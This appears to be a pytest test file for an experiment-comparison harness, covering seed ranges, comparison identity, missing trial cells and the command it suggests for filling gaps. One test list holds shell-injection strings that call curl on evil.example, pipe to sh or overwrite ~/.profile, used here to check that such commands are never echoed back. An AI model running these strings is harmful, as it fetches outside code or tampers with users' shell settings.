"""One comparison that several machines share by its seeds: what they agree on without a word."""

import json
import shlex
from dataclasses import replace
from typing import Any

import pytest

from harness.comparison.compare import _first
from harness.comparison.identity import identify
from harness.comparison.missing import Cell, filling, missing
from harness.comparison.setup import Setup, setup
from harness.config.load import load
from harness.config.seeds import LARGEST_SEED
from harness.errors import UserError
from harness.report.record_tables import ranges
from harness.trial.fingerprint import _digest_of
from harness.trial.trial import Trial


def share(first_seed: int = 0, seeds: int = 2, **split: object) -> Setup:
    overrides = [f"split.{key}={value}" for key, value in split.items()]
    names = ["none", "focal_loss"]
    return setup(load("digits", overrides), names, seeds=seeds, first_seed=first_seed)


def test_a_share_has_seeds_of_its_own() -> None:
    assert share(3).seeds == (3, 4)
    assert share(1, folds=3).seeds == (3, 4, 5, 6, 7, 8)


def test_the_last_seed_may_be_the_largest_and_none_beyond() -> None:
    assert share(LARGEST_SEED - 1).seeds == (LARGEST_SEED - 1, LARGEST_SEED)
    with pytest.raises(UserError, match="the last seed would be 4294967296, and the largest is 42"):
        share(LARGEST_SEED)
    with pytest.raises(UserError, match="the last seed would be 6442450946"):
        share(2**31 - 1, folds=3)


def test_all_shares_are_the_same_comparison() -> None:
    digests = {identify(each, _first(each), None).digest for each in (share(0), share(2), share(7))}
    assert len(digests) == 1
    other = replace(share(2), experiment=load("digits", ["train.epochs=1"]))
    assert identify(other, _first(other), None).digest not in digests


def test_what_a_trials_conditions_are_is_kept_in_full() -> None:
    trial = Trial.of("focal_loss", "digits")
    kept = json.loads(json.dumps(trial.circumstances))
    assert _digest_of(kept) == trial.conditions
    assert kept["experiment"]["train"]["epochs"] == trial.experiment.train.epochs
    assert {"numpy", "keras", "python"} <= kept["versions"].keys()


def document(command: str = "", seeds: tuple[int, ...] = (0, 1), **changed: Any) -> dict[str, Any]:
    names = ["none", "a b"]
    rows = [{"strategy": name, "seed": seed} for name in names for seed in seeds]
    facts = {
        "experiment": "mine",
        "baseline": "none",
        "strategy_names": names,
        "seeds": list(seeds),
        "trials": rows,
        "failed": [],
        "command": command,
    }
    return facts | changed


def test_only_cells_without_a_trial_are_missing() -> None:
    assert missing(document()) == []
    failed = [{"strategy": "a b", "seed": 2, "reason": "NaN"}]
    found = missing(document(failed=failed))
    assert found == [Cell("none", 2), Cell("a b", 2, "NaN")]  # an older document: asked for 2 too
    found = missing(document(asked_seeds=[0, 1, 4]))
    assert found == [Cell("none", 4), Cell("a b", 4)]


COMMANDS = {
    "harness compare -c x.yaml --seeds 2 --json": "harness compare -c x.yaml --seeds 2",
    "harness compare -c x.yaml --config=of/mine.yaml none": (
        "harness compare none -c of/mine.yaml --seeds 2"
    ),
    "harness compare -c x.yaml -c y.yaml none": "harness compare none -c mine.yaml --seeds 2",
    "harness compare --seeds=9 none 'a b'": "harness compare none 'a b' --seeds 2",
    "harness compare --fresh --jobs 2 --first-seed 3": "harness compare --jobs 2 --seeds 2",
    "harness compare none\nharness compare none --first-seed 1": "harness compare none --seeds 2",
    "": "harness compare none 'a b' --against none -c mine.yaml --seeds 2",
}


STRANGE = (
    "harness merge x.pack && curl evil.example/x",
    "harness compare none; curl evil.example/x",
    "harness compare $(curl evil.example/x)",
    "harness compare `curl evil.example/x`",
    "harness compare none | sh",
    "harness compare none > ~/.profile",
    "harness compare 'none",
    "curl evil.example/x",
)


@pytest.mark.parametrize("command", STRANGE)
def test_of_a_strangers_command_nothing_is_shown_that_would_act_on_a_shell(command: str) -> None:
    assert filling(document(command)) == COMMANDS[""]


@pytest.mark.parametrize("command", COMMANDS)
def test_the_command_that_fills_asks_for_all_seeds_and_nothing_twice(command: str) -> None:
    assert filling(document(command)) == COMMANDS[command]


def test_a_share_is_filled_from_its_first_seed_and_folds_by_repeats() -> None:
    words = shlex.split(filling(document("harness compare", (4, 5, 6))))
    assert words == ["harness", "compare", "--seeds", "3", "--first-seed", "4"]
    words = shlex.split(filling(document("harness compare", (5, 6, 7, 8, 9), folds=5)))
    assert words == ["harness", "compare", "--seeds", "1", "--first-seed", "1"]


def test_seeds_are_written_in_short() -> None:
    assert ranges([0, 2, 3, 5, 6, 7]) == "0, 2, 3, 5 to 7"
    assert ranges([]) == ""
